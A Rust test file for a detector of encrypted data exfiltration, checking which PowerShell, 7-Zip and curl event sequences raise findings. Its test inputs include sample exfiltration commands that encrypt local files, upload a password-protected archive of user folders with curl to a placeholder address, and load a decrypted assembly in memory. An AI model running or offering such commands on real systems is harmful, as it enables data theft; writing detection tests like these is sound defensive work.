use sandtrap_sdk::{
    Finding, json,
    testing::{self, TestEvent, World},
};

use super::*;

const SHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const OBJECT: &str = "CommandInvocation(New-Object): \"New-Object\"\r\nParameterBinding(New-Object): \
                      name=\"TypeName\"; value=\"SYStEm.SecURiTY.CrypTOgraPhY.AesCRyPtOSerVIcePRovIDER\"";
const DAY: i64 = 24 * 60 * 60 * 1000;

fn found_at(site: serde_json::Value, events: Vec<TestEvent>) -> Vec<Finding> {
    testing::run::<SymmetricExfiltration>(World::new(), json!({}), site, events)
}

fn found(events: impl IntoIterator<Item = TestEvent>) -> Vec<Finding> {
    found_at(
        json!({ "internal_networks": ["10.1.0.0/16"] }),
        events.into_iter().collect(),
    )
}

fn script(text: &str) -> TestEvent {
    testing::event(class::SCRIPT_EXECUTE)
        .by(7)
        .set(field::SCRIPT_CONTENT, text)
}

fn module(text: &str) -> TestEvent {
    testing::event(class::SCRIPT_COMMAND)
        .by(7)
        .set(field::SCRIPT_CONTENT, text)
}

fn connect_by(process: u64, image: &str, ip: &str, port: u64) -> TestEvent {
    testing::event(class::NETWORK_OPEN)
        .by(process)
        .set(field::ACTOR_PROCESS_FILE_PATH, image)
        .set(field::CONNECTION_INFO_OUTBOUND, 1)
        .set(field::SRC_ENDPOINT_IP, "10.1.0.9")
        .set(field::DST_ENDPOINT_IP, ip)
        .set(field::DST_ENDPOINT_PORT, port)
}

fn connect(ip: &str, port: u64) -> TestEvent {
    connect_by(7, SHELL, ip, port)
}

const ENCRYPTS: &str = "$a=[Security.Cryptography.Aes]::Create();$a.Key=$k;$e=$a.CreateEncryptor();\
                        $b=[IO.File]::ReadAllBytes('C:\\x.docx')";

#[test]
fn a_script_that_encrypts_and_connects_is_found() {
    let found = found([script(ENCRYPTS), connect("198.51.100.7", 8443)]);
    let [finding] = found.as_slice() else {
        panic!("{found:?}")
    };
    assert_eq!(
        (finding.severity, finding.process),
        (Severity::High, Some(7))
    );
    assert!(
        finding.title.contains("198.51.100.7:8443"),
        "{}",
        finding.title
    );
}

#[test]
fn a_cipher_object_whose_use_is_not_visible_is_found() {
    for events in [
        [module(OBJECT), connect("198.51.100.7", 443)],
        [connect("198.51.100.7", 443), module(OBJECT)],
    ] {
        let found = found(events);
        let [finding] = found.as_slice() else {
            panic!("{found:?}")
        };
        assert!(
            finding.title.contains("direction not visible"),
            "{}",
            finding.title
        );
    }
}

#[test]
fn private_addresses_outside_of_the_site_are_outside() {
    assert_eq!(found([module(OBJECT), connect("10.99.0.5", 80)]).len(), 1);
    assert!(found([module(OBJECT), connect("10.1.0.5", 80)]).is_empty());
    let events = vec![module(OBJECT), connect("10.1.0.5", 80)];
    assert_eq!(found_at(json!({}), events).len(), 1);
}

#[test]
fn every_stage_alone_stays_silent() {
    assert!(found([script(ENCRYPTS), module(OBJECT)]).is_empty());
    let ports = [80, 443, 8443].map(|port| connect("198.51.100.7", port));
    assert!(found(ports).is_empty());
    let read = script("$c=New-Object Net.Sockets.TcpClient;[IO.File]::ReadAllBytes($f)");
    assert!(found([read, connect("198.51.100.7", 8443)]).is_empty());
}

#[test]
fn a_decryptor_alone_is_staging() {
    let decrypts = "$a=[Security.Cryptography.Aes]::Create();$d=$a.CreateDecryptor();\
                    [Reflection.Assembly]::Load($d)";
    let events = [
        module(OBJECT),
        script(decrypts),
        connect("198.51.100.7", 443),
    ];
    let only = [script(decrypts), connect("198.51.100.7", 443)];
    assert!(found(events).is_empty());
    assert!(found(only).is_empty());
    let secret = "ConvertTo-SecureString -String $s -Key $k";
    assert!(found([script(secret), connect("198.51.100.7", 443)]).is_empty());
}

#[test]
fn rc4_on_the_command_line_is_found() {
    let line = "powershell -c \"$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256};$_-bxor$S\"";
    let events = [
        testing::launch(7).image(SHELL).command_line(line),
        connect("198.51.100.7", 80),
    ];
    assert_eq!(found(events).len(), 1);
}

#[test]
fn tls_alone_is_never_reported() {
    let cradle = "Invoke-WebRequest -Uri https://198.51.100.7/x -Method Post -Body $b";
    let events = [script(cradle), connect("198.51.100.7", 443)];
    assert!(found(events).is_empty());
    let stream =
        "$s=New-Object Net.Security.SslStream($c.GetStream());$s.AuthenticateAsClient('x')";
    assert!(found([script(stream), connect("198.51.100.7", 443)]).is_empty());
}

#[test]
fn an_archive_with_a_password_that_is_uploaded_by_another_tool_is_found() {
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    let curl = "C:\\Windows\\System32\\curl.exe";
    let pack = testing::launch(5)
        .child_of(3)
        .image("C:\\Program Files\\7-Zip\\7z.exe")
        .command_line("7z.exe a -pSecret out.7z C:\\Users");
    let send = |line: &str| {
        testing::launch(7)
            .child_of(3)
            .image(curl)
            .command_line(line)
    };
    let run = |line: &str| {
        found([
            testing::launch(3).image(cmd),
            pack.clone(),
            send(line),
            connect_by(7, curl, "198.51.100.7", 443),
        ])
    };
    assert_eq!(run("curl.exe -T out.7z https://198.51.100.7/").len(), 1);
    assert!(run("curl.exe -O https://198.51.100.7/x").is_empty());
}

#[test]
fn scripts_of_products_and_approved_ones_stay_silent() {
    let file = |path: &str| script(ENCRYPTS).set(field::SCRIPT_PATH, path);
    let product = file("C:\\Program Files\\WindowsPowerShell\\Modules\\Az.Storage\\x.psm1");
    assert!(found([product, connect("198.51.100.7", 443)]).is_empty());
    let site = json!({ "approved_script_paths": ["D:\\Backup\\*"] });
    let events = vec![
        file("D:\\Backup\\nightly.ps1"),
        connect("198.51.100.7", 443),
    ];
    assert!(found_at(site, events).is_empty());
}

#[test]
fn a_destination_that_is_usual_is_silent_where_the_direction_is_not_visible() {
    let run = |since: i64| {
        let world = World::new().learning_since("destinations", since).observed(
            "destinations",
            "powershell.exe 198.51.100.0/24",
            "device-1",
            since,
            9,
        );
        let events = [
            module(OBJECT).at(60 * DAY),
            connect("198.51.100.7", 443).at(60 * DAY + 1),
        ];
        testing::run::<SymmetricExfiltration>(world, json!({}), json!({}), events)
    };
    assert!(run(0).is_empty());
    assert_eq!(run(50 * DAY).len(), 1);
}

#[test]
fn allowed_programs_are_allowed_only_where_they_belong_and_signed() {
    use sandtrap_sdk::signatures::State;
    let image = "D:\\Agent\\agent.exe";
    let settings = json!({
        "ExecutableAllowlist": [{ "path": "D:\\Agent\\*.exe", "signer": "Vendor Ltd" }]
    });
    let run = |world: World, image: &str| {
        let events = [script(ENCRYPTS), connect_by(7, image, "198.51.100.7", 8443)];
        testing::run::<SymmetricExfiltration>(world, settings.clone(), json!({}), events).len()
    };
    assert_eq!(run(World::new(), image), 0);
    assert_eq!(
        run(
            World::new().signature(image, State::Valid, "Vendor Ltd"),
            image
        ),
        0
    );
    assert_eq!(
        run(
            World::new().signature(image, State::Valid, "Someone"),
            image
        ),
        1
    );
    assert_eq!(
        run(World::new().signature(image, State::Unsigned, ""), image),
        1
    );
    assert_eq!(run(World::new(), "E:\\Agent\\agent.exe"), 1);
}

#[test]
fn payloads_that_measure_as_encrypted_are_reported_as_unconfirmed() {
    let noise: Vec<u8> = (0_u32..4096)
        .scan(0x1234_5678_u32, |state, _| {
            *state ^= *state << 13;
            *state ^= *state >> 17;
            *state ^= *state << 5;
            Some((*state >> 8) as u8)
        })
        .collect();
    let symbols = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let body: String = noise
        .iter()
        .map(|byte| char::from(symbols[usize::from(byte % 64)]))
        .collect();
    let upload = format!("Invoke-RestMethod -Method Post -Body '{body}'; Get-Content C:\\x");
    let found = found([script(&upload), connect("198.51.100.7", 80)]);
    let [finding] = found.as_slice() else {
        panic!("{found:?}")
    };
    assert!(finding.title.contains("unconfirmed"), "{}", finding.title);
}

#[test]
fn old_crypto_does_not_count() {
    let events = [
        module(OBJECT).at(0),
        connect("198.51.100.7", 443).at(901_000),
    ];
    assert!(found(events).is_empty());
}

#[test]
fn settings_that_make_no_sense_are_refused() {
    for settings in [
        json!({ "PayloadEntropyThreshold": 9.0 }),
        json!({ "TimeWindow": [{ "from": "x", "to": "y" }] }),
        json!({ "TimeWindow": "always" }),
        json!({ "ExecutableAllowlist": [{ "path": "chrome.exe" }] }),
        json!({ "ExecutableAllowlist": [{ "path": "*\\*" }] }),
        json!({ "LinkWindow": 0 }),
        json!({ "Threshold": 5 }),
        json!({ "threshold": 50 }),
    ] {
        let refused = testing::refusal::<SymmetricExfiltration>(settings.clone(), json!({}));
        assert!(refused.is_some(), "{settings}");
    }
    let business = json!({ "TimeWindow": [{ "days": ["mon"], "from": "07:00", "to": "19:00" }] });
    assert_eq!(
        testing::refusal::<SymmetricExfiltration>(business, json!({})),
        None
    );
}

#[test]
fn a_script_of_nobody_counts_for_the_powershell_that_connects() {
    let script =
        |text: &str| testing::event(class::SCRIPT_EXECUTE).set(field::SCRIPT_CONTENT, text);
    let sends = format!("{ENCRYPTS};(New-Object Net.WebClient).UploadData($u,$c)");
    let events = |text: &str, image: &str| {
        [
            script(text),
            connect_by(9, image, "198.51.100.7", 443).at(2_000),
        ]
    };
    assert_eq!(found(events(&sends, SHELL)).len(), 1);
    assert!(found(events(ENCRYPTS, SHELL)).is_empty());
    assert!(found(events(&sends, "C:\\Users\\a\\tool.exe")).is_empty());
}
